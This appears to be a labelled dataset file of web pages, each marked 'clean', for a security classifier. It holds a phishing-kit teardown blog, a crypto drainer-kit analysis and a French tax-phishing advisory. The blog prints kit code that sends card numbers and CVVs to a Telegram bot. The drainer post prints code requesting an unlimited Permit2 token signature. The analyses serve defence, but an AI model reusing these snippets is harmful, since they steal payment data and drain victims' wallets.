import { type Entry } from '../entry.js';
import { analytics, css, doc } from '../parts/h-parts.js';

const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export const entries: Entry[] = [
  // h-ok-blog-phishkit-telegram-teardown
{
  id: 'h-ok-blog-phishkit-telegram-teardown',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://research.sable-labs.io/posts/tearing-down-a-parcel-fee-phishing-kit',
  body: doc({
    title: 'Tearing down a parcel-fee phishing kit that exfiltrates to Telegram — Sable Labs',
    css: `body{margin:0;background:#0f1115;color:#d7dae0;font-family:"IBM Plex Sans",Arial,sans-serif;line-height:1.7}article{max-width:760px;margin:40px auto;padding:0 20px}a{color:#7fb4ff}pre{background:#161a22;border:1px solid #252b36;padding:14px;font-size:13px;overflow:auto;white-space:pre-wrap}.tag{display:inline-block;background:#252b36;border-radius:10px;padding:1px 8px;font-size:12px;margin-right:4px}`,
    body: `<article><p><span class="tag">phishing</span><span class="tag">kits</span><span class="tag">telegram</span></p><h1>Tearing down a parcel-fee phishing kit that exfiltrates to Telegram</h1><p>Posted 2026-09-03 by <b>m. okafor</b></p>
<p>A reader forwarded an SMS: <i>"Your parcel is held at customs. Pay 1.79 EUR: hxxps://correos-envio[.]top/..."</i>. The kit behind it was left as an open directory, so we grabbed the archive. It's a classic two-step flow: personal details, then card data and a fake 3-D Secure page for the OTP.</p>
<p>Exfiltration goes straight to a Telegram bot; the token and chat id were hard-coded (we reported both):</p>
<pre>${esc(`var K = '66481xxxxx:AAF3pQx0...redacted', C = '51022xxxxx';
function tg(m){ return fetch('https://api.telegram.org/bot' + K + '/sendMessage?chat_id=' + C + '&text=' + encodeURIComponent(m)); }
function s2(){ tg('CC ' + $('cn') + ' | ' + $('ce') + ' | ' + $('cv')).then(() => location = '/sms.html'); }`)}</pre>
<p>The form fields it asked for:</p><pre>${esc(`<input id="cn" placeholder="Número de tarjeta">
<input id="ce" placeholder="Caducidad MM/AA">
<input id="cv" placeholder="CVV">`)}</pre>
<p>Anti-analysis was minimal: a <code>blocker.php</code> that rejects known crawler IP ranges and user agents containing "bot", plus a geo check allowing only ES visitors.</p>
<h2>Takeaways</h2><ul><li>Bot tokens in client-side JS let defenders read the whole channel history with <code>getUpdates</code> — report them to Telegram quickly.</li><li>Postal services never ask for customs fees by SMS link.</li></ul><p><a href="/posts">← all posts</a></p></article>`,
  }),
},
  // h-ok-blog-drainer-kit-analysis
{
  id: 'h-ok-blog-drainer-kit-analysis',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://www.chainwatch-analytics.com/blog/drainer-as-a-service-permit2-2026',
  body: doc({
    title: 'Drainer-as-a-Service in 2026: Permit2 batch signatures and fake claim pages | Chainwatch',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;color:#1b1f2a;line-height:1.7}header{background:#0b1f3a;color:#fff;padding:16px 40px}article{max-width:780px;margin:30px auto;padding:0 20px}pre{background:#f4f6fa;border:1px solid #dde3ee;padding:14px;font-size:12.5px;overflow:auto;white-space:pre-wrap}.kpi{display:flex;gap:20px}.kpi div{flex:1;background:#f4f6fa;padding:14px;border-radius:8px}.kpi b{display:block;font-size:26px}`,
    body: `<header><b>Chainwatch</b> Analytics · Blog</header><article><h1>Drainer-as-a-Service in 2026: Permit2 batch signatures and fake claim pages</h1><p><i>Threat intelligence team · 12 Nov 2026</i></p>
<div class="kpi"><div><b>$214M</b>stolen by drainers YTD</div><div><b>41k</b>victims</div><div><b>63%</b>via off-chain signatures</div></div>
<p>Drainer operators now sell turnkey kits to affiliates, taking 20–30% of proceeds. The kits ship a "claim" or "mint" page and a script that asks the victim for a <b>PermitBatch</b> signature covering every token they hold:</p>
<pre>${esc(`const typed = {
  primaryType: 'PermitBatch',
  domain: { name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' },
  message: {
    details: tokens.map(t => ({ token: t, amount: MAX_UINT160, expiration: dl, nonce: 0 })),
    spender: AFFILIATE_SPENDER,
    sigDeadline: dl
  }
};
const sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [victim, JSON.stringify(typed)] });`)}</pre>
<p>Once signed, the operator's backend calls <code>permitTransferFrom</code> and sweeps the tokens. Older kits still use plain <code>approve(spender, 2^256-1)</code> and <code>setApprovalForAll</code>, and Solana variants ask for <code>signAllTransactions</code> on a batch of SOL transfers.</p>
<h2>What wallets can do</h2><ul><li>Decode Permit2 payloads and show spender and amounts in plain language.</li><li>Warn on unlimited allowances to EOAs or fresh contracts.</li></ul>
<p>Indicators (spender addresses, domains) are available to customers in the Chainwatch portal.</p></article>`,
  }),
},
  // h-ok-cert-advisory-tax-phishing-fr
{
  id: 'h-ok-cert-advisory-tax-phishing-fr',
  label: 'clean',
  kind: 'advisory',
  url: 'https://www.cybermalveillance.gouv.fr/tous-nos-contenus/actualites/alerte-faux-remboursement-impots-2026',
  body: doc({
    lang: 'fr',
    title: 'Alerte : campagne de faux messages de remboursement des impôts | Cybermalveillance.gouv.fr',
    css: `body{margin:0;font-family:Marianne,Arial,sans-serif;color:#161616;line-height:1.6}header{padding:16px 40px;border-bottom:1px solid #ddd;display:flex;gap:20px;align-items:center}header b{color:#000091}main{max-width:760px;margin:30px auto;padding:0 20px}.ex{border:1px dashed #999;padding:14px;background:#f6f6f6;font-size:14px}.ok{background:#b8fec9;padding:10px 14px}`,
    body: `<header><b>RÉPUBLIQUE FRANÇAISE</b><span>Cybermalveillance.gouv.fr — Assistance et prévention du risque numérique</span></header>
<main><h1>Alerte : campagne de faux messages de remboursement des impôts</h1><p><i>Publié le 18 novembre 2026</i></p>
<p>De nombreux contribuables reçoivent des courriels et SMS frauduleux se présentant comme provenant de la DGFiP et annonçant un remboursement d'impôt. Le lien mène vers une copie de l'espace particulier qui demande le numéro fiscal, le mot de passe, puis les coordonnées bancaires complètes.</p>
<div class="ex"><b>Exemple de message reçu :</b><br>« Après vérification de votre déclaration de revenus, vous êtes éligible à un remboursement de 312,40 €. Votre dossier expire dans 48 heures. Cliquez ici : impots-gouv.fr-remboursement[.]info »</div>
<h2>Comment reconnaître l'arnaque ?</h2><ul><li>Le site officiel est uniquement <b>impots.gouv.fr</b> ; méfiez-vous des adresses comme « impots-gouv.fr-xxx.info ».</li><li>L'administration ne demande jamais vos coordonnées de carte bancaire pour un remboursement.</li><li>Le ton urgent (« sous 48 heures ») est un signal d'alerte.</li></ul>
<p class="ok">Si vous avez saisi vos informations : faites opposition sur votre carte, changez votre mot de passe et signalez le message sur <b>signal-spam.fr</b> ou au 33700 pour les SMS.</p></main>`,
  }),
},
];
